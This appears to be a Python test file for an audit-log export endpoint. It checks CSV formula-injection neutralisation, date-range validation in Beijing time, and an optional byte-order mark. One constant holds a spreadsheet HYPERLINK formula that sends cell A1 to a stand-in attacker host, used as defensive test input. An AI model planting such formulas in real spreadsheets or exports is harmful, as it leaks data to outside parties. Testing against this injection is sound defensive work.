"""GET /audit/export: cells a spreadsheet would run as formulas are neutralised (OWASP CSV
injection), and since/until are dates or offset date-times in range, else a 400 naming them."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from api import demo
from api.audit.service import _export_value, parse_bound
from api.errors import InvalidInput
from tests.conftest import token

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


@pytest.mark.parametrize("value, cell", [
    (FORMULA, "'" + FORMULA),
    ("+86 311 1234", "'+86 311 1234"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("loan_review", "loan_review"),
    ("贷款审查 =1", "贷款审查 =1"),
    (-5, -5),  # a number is not text a spreadsheet evaluates
    ({"a": "=1"}, '{"a": "=1"}'),
])
def test_csv_cells_that_start_a_formula_are_neutralised(value, cell):
    assert _export_value(value) == cell


async def test_a_formula_sent_as_a_purpose_reaches_the_auditor_as_text(client, settings, gql):
    out = await gql('query($k: ID!, $p: String) { subject(key: $k, purpose: $p) { key } }',
                    {"k": demo.COMPANY, "p": FORMULA})  # anyone, no token
    assert out["data"]["subject"]["key"] == demo.COMPANY
    auth = {"Authorization": f"Bearer {token(settings, 'auditor')}"}
    r = await client.get("/audit/export", params={"format": "csv", "kind": "query"}, headers=auth)
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["purpose"] for row in rows] == ["'" + FORMULA]
    r = await client.get("/audit/export", params={"format": "ndjson", "kind": "query"}, headers=auth)
    assert FORMULA.replace('"', '\\"') in r.text  # NDJSON is data, not a sheet: unchanged


@pytest.mark.parametrize("param, raw", [
    ("since", "0001-01-01T00:00:00+05:00"),  # was a 500: below datetime's range once in UTC
    ("until", "9999-12-31T23:00:00-05:00"),
    ("since", "1969-12-31T23:59:59Z"),
    ("since", "2026-13-01"),
    ("until", "2026-02-30"),
    ("since", "2026-11-01T10:00:00"),  # no offset: which zone was meant?
    ("until", "yesterday"),
    ("since", "20261101"),
])
async def test_a_bad_since_or_until_is_a_400_naming_it(client, settings, param, raw):
    auth = {"Authorization": f"Bearer {token(settings, 'auditor')}"}
    r = await client.get("/audit/export", params={param: raw}, headers=auth)
    assert r.status_code == 400, r.text
    body = r.json()
    assert body["error"] == "INVALID_INPUT" and body["field"] == param
    assert f"参数 {param} 无效" in body["message"]


def test_a_date_means_that_whole_day_in_beijing_time():
    assert parse_bound("since", "2026-11-30") == dt.datetime(2026, 11, 29, 16, tzinfo=dt.UTC)
    assert parse_bound("until", "2026-11-30") == dt.datetime(2026, 11, 30, 16, tzinfo=dt.UTC)
    assert parse_bound("since", "2026-11-30T08:00:00+08:00") == dt.datetime(2026, 11, 30, tzinfo=dt.UTC)
    assert parse_bound("until", "2026-11-30T00:00:00Z") == dt.datetime(2026, 11, 30, tzinfo=dt.UTC)
    with pytest.raises(InvalidInput):
        parse_bound("until", "2026-11-30T00:00:00")


async def test_an_export_by_day_holds_the_rows_of_that_beijing_day(client, settings, gql):
    await gql('query($k: ID!) { subject(key: $k) { key } }', {"k": demo.COMPANY})
    today = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))).date()
    auth = {"Authorization": f"Bearer {token(settings, 'auditor')}"}

    async def count(since: dt.date, until: dt.date) -> int:
        r = await client.get("/audit/export", headers=auth, params={
            "kind": "query", "since": since.isoformat(), "until": until.isoformat()})
        assert r.status_code == 200, r.text
        return len(r.text.splitlines()) - 1  # NDJSON rows, then the end line

    assert await count(today, today) == 1
    assert await count(today - dt.timedelta(days=2), today - dt.timedelta(days=1)) == 0


async def test_a_csv_export_for_excel_starts_with_a_byte_order_mark_and_parses(client, settings, gql):
    await gql('query($k: ID!, $p: String) { subject(key: $k, purpose: $p) { key } }',
              {"k": demo.COMPANY, "p": "贷款审查"})
    auth = {"Authorization": f"Bearer {token(settings, 'auditor')}"}
    params = {"format": "csv", "kind": "query"}
    plain = await client.get("/audit/export", params=params, headers=auth)
    marked = await client.get("/audit/export", params={**params, "bom": "1"}, headers=auth)
    assert marked.status_code == 200 and marked.content.startswith(b"\xef\xbb\xbf")
    assert not plain.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(marked.content.decode("utf-8-sig"))))
    assert [row["purpose"] for row in rows] == ["贷款审查"]
    assert list(rows[0]) == list(csv.DictReader(io.StringIO(plain.text)).fieldnames)
    bad = await client.get("/audit/export", params={**params, "bom": "yes please"}, headers=auth)
    assert bad.status_code == 400 and bad.json()["field"] == "bom"
